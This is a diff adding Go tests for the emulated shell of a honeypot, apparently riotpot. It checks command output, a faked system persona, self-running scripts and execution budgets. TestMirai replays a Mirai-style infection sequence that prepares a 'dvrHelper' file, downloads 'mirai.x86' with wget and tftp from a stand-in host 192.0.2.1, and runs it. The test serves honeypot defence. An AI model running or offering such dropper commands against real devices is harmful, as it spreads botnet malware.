@@ -0,0 +1,109 @@
+package shell
+
+import (
+	"bytes"
+	"io"
+	"os"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/riotpot/pkg/shell"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestMirai(t *testing.T) {
+	// Sequence of the bots of the Mirai family after the login
+	out, fs := interact(t, "root",
+		"enable",
+		"system",
+		"shell",
+		"sh",
+		"/bin/busybox ECCHI",
+		"cd /tmp; cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI",
+		"echo -ne '\\x7f\\x45\\x4c\\x46\\x01' >> dvrHelper; /bin/busybox ECCHI",
+		"/bin/busybox wget http://192.0.2.1/bins/mirai.x86; /bin/busybox tftp -g -r mirai.x86 192.0.2.1",
+		"./dvrHelper telnet.x86",
+	)
+
+	assert.Contains(t, out, "bash: system: command not found\n")
+	assert.Contains(t, out, "bash: shell: command not found\n")
+	assert.Equal(t, 3, strings.Count(out, "ECCHI: applet not found\n"))
+	assert.Contains(t, out, "Connecting to 192.0.2.1 (192.0.2.1:80)\nwget: can't connect to remote host (192.0.2.1): Connection timed out\n")
+	assert.Contains(t, out, "tftp: timeout\n")
+	assert.NotContains(t, out, "dvrHelper: ")
+
+	f, err := fs.Stat("/tmp/dvrHelper")
+	assert.NoError(t, err)
+	assert.Equal(t, os.FileMode(0o777), f.Mode)
+	assert.True(t, bytes.Equal([]byte("\x7fELF\x01"), f.Content))
+}
+
+func TestPersona(t *testing.T) {
+	out, _ := interact(t, "root", "uname -a", "uname -m", "nproc", "id", "whoami", "cat /proc/cpuinfo", "/bin/busybox")
+
+	assert.Contains(t, out, "Linux host 5.15.0-72-generic #79-Ubuntu SMP Wed Apr 19 08:22:18 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n")
+	assert.Contains(t, out, "# x86_64\n")
+	assert.Contains(t, out, "# 2\n")
+	assert.Contains(t, out, "uid=0(root) gid=0(root) groups=0(root)\n")
+	assert.Contains(t, out, "# root\n")
+	assert.Contains(t, out, "model name\t: Intel(R) Xeon(R)")
+	assert.Contains(t, out, "BusyBox v1.30.1 (Ubuntu 1:1.30.1-7ubuntu3) multi-call binary.")
+
+	// The persona of the image is used by the new shells
+	image := shell.NewImage(shell.GetImage().ModTime)
+	image.Persona.Machine = "armv7l"
+	image.Add("/bin/busybox", 0o755, nil)
+
+	previous := shell.GetImage()
+	shell.SetImage(image)
+	defer shell.SetImage(previous)
+
+	out, _ = interact(t, "root", "uname -m", "/bin/busybox uname -m")
+	assert.Equal(t, 2, strings.Count(out, "armv7l\n"))
+}
+
+func TestScripts(t *testing.T) {
+	out, _ := interact(t, "root",
+		"echo 'echo a' > /tmp/a.sh; echo 'sh /tmp/a.sh' >> /tmp/a.sh",
+		"sh /tmp/a.sh",
+		"sh -c 'echo b; echo c'",
+		"wget -q http://example.com/a.sh",
+		"curl -O http://example.com/a.sh",
+	)
+
+	// The scripts that run themselves end
+	assert.Equal(t, 8, strings.Count(out, "a\n"))
+	assert.Contains(t, out, "b\nc\n")
+	assert.Contains(t, out, "curl: (6) Could not resolve host: example.com\n")
+	assert.NotContains(t, out, "wget")
+}
+
+func TestBudget(t *testing.T) {
+	// Each script runs itself many times, and each substitution runs two more
+	script := strings.Repeat("sh /tmp/a;", 50)
+	substitution := "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo x)))))))"
+
+	start := time.Now()
+	out, _ := interact(t, "root",
+		"echo '"+script+"' > /tmp/a; sh /tmp/a",
+		"echo '"+strings.Repeat(substitution+";", 50)+"' > /tmp/b; sh /tmp/b",
+		"echo done",
+	)
+
+	// The commands of a line stop when its budget is spent, the next lines run
+	assert.Less(t, time.Since(start), 2*time.Second)
+	assert.Contains(t, out, "done\n")
+}
+
+func TestRegistry(t *testing.T) {
+	shell.Commands.Register("test", func(s *shell.Shell, args []string, in io.Reader, out io.Writer) error {
+		_, err := io.WriteString(out, strings.Join(args, ",")+"\n")
+		return err
+	})
+	defer shell.Commands.Unregister("test")
+	assert.Contains(t, shell.Commands.GetNames(), "test")
+
+	out, _ := interact(t, "root", "test 'a b' c")
+	assert.Contains(t, out, "test,a b,c\n")
+}